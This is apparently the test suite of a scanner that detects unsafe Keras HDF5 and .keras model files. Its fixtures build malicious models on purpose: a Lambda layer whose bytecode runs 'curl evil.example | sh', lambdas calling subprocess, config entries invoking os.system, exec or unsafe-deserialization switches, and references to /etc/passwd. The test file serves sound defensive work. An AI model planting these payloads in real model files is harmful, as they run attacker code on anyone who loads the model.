"""Keras HDF5 (.h5) and Keras 3 (.keras) models, written with h5py and zipfile in Keras' own layouts.

Nothing here imports Keras or TensorFlow: the configs are the JSON Keras writes, the Lambda
bytecode is what ``func_dump`` produces (base64 of ``marshal.dumps(code)``).
"""

from __future__ import annotations

import base64
import codecs
import copy
import io
import json
import marshal
import sys
import zipfile
from pathlib import Path
from typing import Any, Dict, List, Optional

import pytest

from safemodel_ci.findings import Severity
from safemodel_ci.marshal_reader import summarize_marshalled_code
from safemodel_ci.scanner import ScanOptions, scan_file

h5py = pytest.importorskip("h5py")
np = pytest.importorskip("numpy")


def _scan(path: Path):
    return scan_file(str(path), ScanOptions())


def _rules(result) -> List[str]:  # type: ignore[no-untyped-def]
    return sorted(f.rule_id for f in result.findings)


# ---- configs as Keras writes them ------------------------------------------------------------

def _dense(name: str, units: int = 4) -> Dict[str, Any]:
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "name": name,
            "config": {"name": name, "trainable": True,
                       "dtype": {"module": "keras", "class_name": "DTypePolicy",
                                 "config": {"name": "float32"}, "registered_name": None},
                       "units": units, "activation": "relu", "use_bias": True,
                       "kernel_initializer": {"module": "keras.initializers", "class_name": "GlorotUniform",
                                              "config": {"seed": None}, "registered_name": None},
                       "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros",
                                            "config": {}, "registered_name": None},
                       "kernel_regularizer": None, "bias_regularizer": None},
            "build_config": {"input_shape": [None, 8]},
            "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__",
                                         "config": {"shape": [None, 8], "dtype": "float32",
                                                    "keras_history": ["input_layer", 0, 0]}}],
                               "kwargs": {}}]}


def _keras3_config(extra_layers: Optional[List[Dict[str, Any]]] = None) -> Dict[str, Any]:
    """A Functional model with a nested Sequential and TimeDistributed/Bidirectional wrappers."""
    inner = {"module": "keras", "class_name": "Sequential", "registered_name": None, "name": "inner",
             "config": {"name": "inner", "trainable": True,
                        "layers": [{"module": "keras.layers", "class_name": "InputLayer",
                                    "config": {"batch_shape": [None, 5, 8], "dtype": "float32",
                                               "name": "inner_input"}, "registered_name": None},
                                   {"module": "keras.layers", "class_name": "TimeDistributed",
                                    "registered_name": None,
                                    "config": {"name": "td", "layer": _dense("td_dense")}},
                                   {"module": "keras.layers", "class_name": "Bidirectional",
                                    "registered_name": None,
                                    "config": {"name": "bidi", "merge_mode": "concat",
                                               "layer": {"module": "keras.layers", "class_name": "LSTM",
                                                         "config": {"name": "lstm", "units": 3},
                                                         "registered_name": None}}}]}}
    layers = [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
               "name": "input_layer", "config": {"batch_shape": [None, 5, 8], "dtype": "float32",
                                                 "sparse": False, "name": "input_layer"},
               "inbound_nodes": []},
              inner, _dense("dense")] + (extra_layers or [])
    return {"module": "keras", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "functional", "trainable": True, "layers": layers,
                       "input_layers": [["input_layer", 0, 0]], "output_layers": [["dense", 0, 0]]},
            "build_config": {"input_shape": None},
            "compile_config": {"optimizer": {"module": "keras.optimizers", "class_name": "Adam",
                                             "config": {"name": "adam", "learning_rate": 0.001},
                                             "registered_name": None},
                               "loss": "mean_squared_error", "metrics": ["mae"], "jit_compile": False}}


def _tf_keras_config(extra_layers: Optional[List[Dict[str, Any]]] = None) -> Dict[str, Any]:
    """What tf.keras 2.x writes into model_config of an .h5 file (no module keys before 2.13)."""
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "dense_input"}},
        {"class_name": "Dense", "config": {"name": "dense", "trainable": True, "units": 4,
                                           "activation": "relu",
                                           "kernel_initializer": {"class_name": "GlorotUniform",
                                                                  "config": {"seed": None}}}},
    ] + (extra_layers or [])}}


_TRAINING_CONFIG = {"loss": "mse", "metrics": None, "weighted_metrics": None, "loss_weights": None,
                    # tf.keras 2.11/2.12 registered its own optimizers as "Custom>Adam".
                    "optimizer_config": {"class_name": "Custom>Adam",
                                         "config": {"name": "Adam", "learning_rate": 0.001}}}


def _func_dump(fn: Any) -> str:
    """keras.src.utils.python_utils.func_dump's code string."""
    return codecs.encode(marshal.dumps(fn.__code__), "base64").decode("ascii")


def _evil_lambda_layer(name: str = "lam") -> Dict[str, Any]:
    code = _func_dump(lambda x: __import__("os").system("curl evil.example | sh") or x)
    return {"class_name": "Lambda", "config": {"name": name, "trainable": True, "dtype": "float32",
                                               "function": [code, None, None], "function_type": "lambda",
                                               "module": "__main__", "output_shape": None,
                                               "output_shape_type": "raw", "arguments": {}}}


def _write_h5(path: Path, model_config: Dict[str, Any],
              training_config: Optional[Dict[str, Any]] = None) -> None:
    """The layout of tf.keras' legacy HDF5 save: root attributes and a model_weights group."""
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = "2.15.0"
        f.attrs["backend"] = "tensorflow"
        f.attrs["model_config"] = json.dumps(model_config)
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config)
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense"])
        weights.attrs["backend"] = "tensorflow"
        weights.attrs["keras_version"] = "2.15.0"
        dense = weights.create_group("dense").create_group("dense")
        dense.create_dataset("kernel:0", data=np.ones((8, 4), np.float32))
        dense.create_dataset("bias:0", data=np.zeros((4,), np.float32))


def _weights_h5() -> bytes:
    """model.weights.h5 as Keras 3 writes it (layers/<name>/vars/<i>)."""
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.create_group("layers").create_group("dense").create_group("vars").create_dataset(
            "0", data=np.ones((8, 4), np.float32))
        f.create_group("optimizer").create_group("vars")
    return buf.getvalue()


def _write_keras(path: Path, config: Any, raw_config: Optional[bytes] = None,
                 compression: int = zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(path, "w", compression=compression) as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0",
                                                "date_saved": "2024-11-01@12:00:00"}))
        z.writestr("config.json", raw_config if raw_config is not None else json.dumps(config))
        z.writestr("model.weights.h5", _weights_h5())


# ---- HDF5 ------------------------------------------------------------------------------------

def test_ordinary_h5_model_passes(tmp_path: Path) -> None:
    p = tmp_path / "model.h5"
    _write_h5(p, _tf_keras_config(), _TRAINING_CONFIG)
    result = _scan(p)
    assert result.formats == ["hdf5", "keras-h5"]
    assert result.findings == []
    q = tmp_path / "functional.h5"
    _write_h5(q, _keras3_config())
    assert _scan(q).findings == []


def test_h5_lambda_bytecode_is_critical_with_names(tmp_path: Path) -> None:
    p = tmp_path / "model.h5"
    _write_h5(p, _tf_keras_config([_evil_lambda_layer()]), _TRAINING_CONFIG)
    result = _scan(p)
    hits = [f for f in result.findings if f.rule_id == "keras-lambda-code"]
    assert len(hits) == 1
    hit = hits[0]
    assert hit.severity == Severity.CRITICAL
    assert hit.details["path"] == "model_config.config.layers[2].config.function"
    assert hit.details["layers"] == ["sequential", "lam"]
    assert {"__import__", "system"} <= set(hit.details["names"])
    assert "curl evil.example | sh" in hit.details["strings"]


def test_h5_lambda_nested_in_wrappers(tmp_path: Path) -> None:
    """Lambda inside TimeDistributed inside a Sequential inside a Functional model."""
    config = _keras3_config()
    inner = config["config"]["layers"][1]
    inner["config"]["layers"][1]["config"]["layer"] = _evil_lambda_layer("deep_lambda")
    p = tmp_path / "model.h5"
    _write_h5(p, config)
    hits = [f for f in _scan(p).findings if f.rule_id == "keras-lambda-code"]
    assert len(hits) == 1
    assert hits[0].details["path"] == (
        "model_config.config.layers[1].config.layers[1].config.layer.config.function")
    assert hits[0].details["layers"] == ["functional", "inner", "td", "deep_lambda"]


def test_h5_training_config_module_outside_keras(tmp_path: Path) -> None:
    training = copy.deepcopy(_TRAINING_CONFIG)
    training["loss"] = {"module": "builtins", "class_name": "function", "config": "exec",
                        "registered_name": "exec"}
    training["metrics"] = [{"module": "my_metrics", "class_name": "F2", "config": {},
                            "registered_name": None}]
    p = tmp_path / "model.h5"
    _write_h5(p, _tf_keras_config(), training)
    hits = {f.details["name"]: f for f in _scan(p).findings if f.rule_id == "keras-unsafe-module"}
    assert hits["exec"].severity == Severity.CRITICAL
    assert hits["exec"].details["path"] == "training_config.loss"
    assert hits["F2"].severity == Severity.HIGH


def test_h5_builtin_activation_names_pass(tmp_path: Path) -> None:
    """Keras resolves module "builtins" functions among its own activations first."""
    layer = _dense("d2")
    layer["config"]["activation"] = {"module": "builtins", "class_name": "function", "config": "gelu",
                                     "registered_name": "gelu"}
    p = tmp_path / "model.h5"
    _write_h5(p, _keras3_config([layer]))
    assert _scan(p).findings == []


def test_h5_without_h5py_is_unscanned(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    p = tmp_path / "model.h5"
    _write_h5(p, _tf_keras_config())
    monkeypatch.setitem(sys.modules, "h5py", None)
    result = _scan(p)
    assert _rules(result) == ["unscanned-unsupported"]
    assert not result.complete


def test_h5_after_user_block_is_found(tmp_path: Path) -> None:
    p = tmp_path / "model.h5"
    with h5py.File(p, "w", userblock_size=4096) as f:
        f.attrs["model_config"] = json.dumps(_tf_keras_config([_evil_lambda_layer()]))
    with open(p, "r+b") as fh:
        fh.write(b"just some text in the user block\n")
    result = _scan(p)
    assert "hdf5" in result.formats
    assert "keras-lambda-code" in _rules(result)


# ---- .keras ----------------------------------------------------------------------------------

def test_ordinary_keras_archive_passes(tmp_path: Path) -> None:
    p = tmp_path / "model.keras"
    _write_keras(p, _keras3_config())
    result = _scan(p)
    assert "config.json=keras-config" in result.formats
    assert "model.weights.h5=hdf5" in result.formats
    assert result.findings == []


def _keras_hits(tmp_path: Path, layer: Dict[str, Any], rule: str, raw: Optional[bytes] = None):  # type: ignore[no-untyped-def]
    p = tmp_path / "model.keras"
    _write_keras(p, _keras3_config([layer]), raw)
    result = _scan(p)
    return result, [f for f in result.findings if f.rule_id == rule]


def test_keras_v3_lambda(tmp_path: Path) -> None:
    code = _func_dump(lambda x: __import__("subprocess").check_output(["id"]))
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "lam",
             "config": {"name": "lam", "function": {"class_name": "__lambda__",
                                                    "config": {"value": [code, None, None]}},
                        "arguments": {}}}
    result, hits = _keras_hits(tmp_path, layer, "keras-lambda-code")
    assert len(hits) == 1 and hits[0].member == "config.json"
    assert hits[0].details["path"] == "config.layers[3].config.function.config"
    assert {"__import__", "check_output"} <= set(hits[0].details["names"])
    deflated = tmp_path / "deflated.keras"
    _write_keras(deflated, _keras3_config([layer]), compression=zipfile.ZIP_DEFLATED)
    assert [f.rule_id for f in _scan(deflated).findings] == ["keras-lambda-code"]


def test_keras_v3_lambda_with_escaped_keys(tmp_path: Path) -> None:
    """JSON escapes spell the same keys: the reader parses, it does not grep."""
    code = _func_dump(lambda x: x)
    raw = json.dumps(_keras3_config([{"class\\u005fname": "__lambda__",
                                      "config": {"value": [code, None, None]}}]))
    raw = raw.replace("class\\\\u005fname", "class\\u005fname").encode()
    _, hits = _keras_hits(tmp_path, {}, "keras-lambda-code", raw)
    assert len(hits) == 1


@pytest.mark.parametrize("module,name,severity", [
    ("subprocess", "Popen", Severity.CRITICAL),
    ("os", "system", Severity.CRITICAL),
    ("my_company.layers", "Attention", Severity.HIGH),
])
def test_keras_v3_module_outside_keras(tmp_path: Path, module: str, name: str, severity: Severity) -> None:
    layer = {"module": module, "class_name": name, "registered_name": None,
             "config": {"name": "evil", "args": ["id"]}}
    _, hits = _keras_hits(tmp_path, layer, "keras-unsafe-module")
    assert len(hits) == 1 and hits[0].severity == severity
    assert hits[0].details["module"] == module and hits[0].details["layers"] == ["functional", "evil"]


@pytest.mark.parametrize("module,name", [
    ("keras.utils", "get_file"),
    ("keras.config", "enable_unsafe_deserialization"),
    ("keras", "utils.get_file"),
])
def test_keras_v3_non_modeling_api(tmp_path: Path, module: str, name: str) -> None:
    layer = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    _, hits = _keras_hits(tmp_path, layer, "keras-non-modeling-api")
    assert len(hits) == 1 and hits[0].severity == Severity.CRITICAL
    assert hits[0].details["name"] == name


def test_keras_v3_tfsmlayer_and_vocabulary_file(tmp_path: Path) -> None:
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
            "config": {"name": "tfsm", "filepath": "/tmp/attacker_savedmodel", "call_endpoint": "serve"}}
    lookup = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
              "config": {"name": "lookup", "vocabulary": "/etc/passwd", "max_tokens": None}}
    p = tmp_path / "model.keras"
    _write_keras(p, _keras3_config([tfsm, lookup]))
    result = _scan(p)
    rules = _rules(result)
    assert "keras-external-savedmodel" in rules and "keras-file-reference" in rules
    ref = next(f for f in result.findings if f.rule_id == "keras-file-reference")
    assert ref.details["file"] == "/etc/passwd" and ref.details["path"] == "config.layers[4]"


def test_keras_v3_custom_registered_object(tmp_path: Path) -> None:
    layer = {"module": "keras.layers", "class_name": "MyLayer", "registered_name": "acme>MyLayer",
             "config": {"name": "mine"}}
    _, hits = _keras_hits(tmp_path, layer, "keras-custom-object")
    assert len(hits) == 1 and hits[0].details["registered_name"] == "acme>MyLayer"


def test_keras_v3_torch_module_wrapper_payload_is_scanned(tmp_path: Path) -> None:
    torch = pytest.importorskip("torch")
    buf = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), buf)
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
             "config": {"name": "torch_wrapper", "module": base64.b64encode(buf.getvalue()).decode("ascii"),
                        "output_shape": None}}
    result, hits = _keras_hits(tmp_path, layer, "keras-torch-module")
    assert len(hits) == 1 and hits[0].severity == Severity.HIGH
    # The decoded torch.save blob went through the scanner as a member of config.json.
    assert any(fmt.startswith("config.json:config.layers[3].config.module=zip") for fmt in result.formats)


def test_metadata_json_and_other_json_are_not_flagged(tmp_path: Path) -> None:
    p = tmp_path / "config.json"  # a transformers config: JSON, but no Keras objects
    p.write_text(json.dumps({"architectures": ["BertModel"], "hidden_size": 768, "model_type": "bert"}))
    result = _scan(p)
    assert result.findings == [] and "keras-config" not in result.formats


# ---- the marshal reader ----------------------------------------------------------------------

def test_marshal_reader_lists_names_without_loading() -> None:
    def outer(x):  # type: ignore[no-untyped-def]
        return [__import__("os").popen(str(i)) for i in x]

    summary = summarize_marshalled_code(marshal.dumps(outer.__code__))
    assert summary is not None
    assert {"__import__", "str"} <= set(summary.names)
    assert "popen" in summary.names and "os" in summary.strings and "outer" in summary.functions
    assert summarize_marshalled_code(b"\xe3" + b"\x00" * 10) is None


@pytest.mark.parametrize("version", ["3.7", "3.8", "3.9", "3.10", "3.12", "3.13"])
def test_marshal_reader_reads_every_cpython_layout(version: str) -> None:
    from marshal_samples import SAMPLES

    summary = summarize_marshalled_code(base64.b64decode(SAMPLES[version]))
    assert summary is not None, version
    assert summary.names[:2] == ["__import__", "system"]
    assert {"os", "id"} <= set(summary.strings)


def test_scanning_keras_files_imports_neither_keras_nor_tensorflow(tmp_path: Path) -> None:
    import subprocess

    h5 = tmp_path / "model.h5"
    _write_h5(h5, _tf_keras_config([_evil_lambda_layer()]), _TRAINING_CONFIG)
    archive = tmp_path / "model.keras"
    _write_keras(archive, _keras3_config())
    script = ("import sys; from safemodel_ci.scanner import ScanOptions, scan_file\n"
              f"for p in {[str(h5), str(archive)]!r}: scan_file(p, ScanOptions())\n"
              "bad = [m for m in sys.modules if m.split('.')[0] in ('keras', 'tensorflow', 'tf_keras')]\n"
              "assert not bad, bad\n")
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]


#: Every encoding json.loads(bytes) detects (json.detect_encoding), with and without a BOM.
JSON_ENCODINGS = [("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b""), ("utf-16-be", b""),
                  ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"), ("utf-32-le", b""),
                  ("utf-32-be", b""), ("utf-32-le", b"\xff\xfe\x00\x00"), ("utf-32-be", b"\x00\x00\xfe\xff")]


@pytest.mark.parametrize("encoding,bom", JSON_ENCODINGS,
                         ids=[f"{e}{'-bom' if b else ''}" for e, b in JSON_ENCODINGS])
def test_keras_config_in_every_encoding_json_loads_reads(tmp_path: Path, encoding: str, bom: bytes) -> None:
    """Keras reads config.json with json.loads(bytes), which decodes UTF-8/16/32 (BOM or not):
    a Lambda in a UTF-16 or UTF-32 config is found, not passed as "not JSON"."""
    code = _func_dump(lambda x: __import__("subprocess").check_output(["id"]))
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "lam",
             "config": {"name": "lam", "function": {"class_name": "__lambda__",
                                                    "config": {"value": [code, None, None]}},
                        "arguments": {}}}
    raw = bom + json.dumps(_keras3_config([layer])).encode(encoding)
    assert json.loads(raw)["class_name"]  # what Keras parses: the same document
    _, hits = _keras_hits(tmp_path, {}, "keras-lambda-code", raw)
    assert len(hits) == 1, encoding
    # The same config as a loose file (a config.json beside the weights).
    (tmp_path / "config.json").write_bytes(raw)
    result = _scan(tmp_path / "config.json")
    assert "keras-lambda-code" in [f.rule_id for f in result.findings]


def test_utf16_module_outside_keras_is_flagged(tmp_path: Path) -> None:
    layer = {"module": "os", "class_name": "function", "registered_name": None,
             "config": "system"}
    raw = b"\xff\xfe" + json.dumps(_keras3_config([layer])).encode("utf-16-le")
    p = tmp_path / "m.keras"
    _write_keras(p, None, raw)
    result = _scan(p)
    assert any(f.severity >= Severity.HIGH for f in result.findings), [f.to_dict() for f in result.findings]
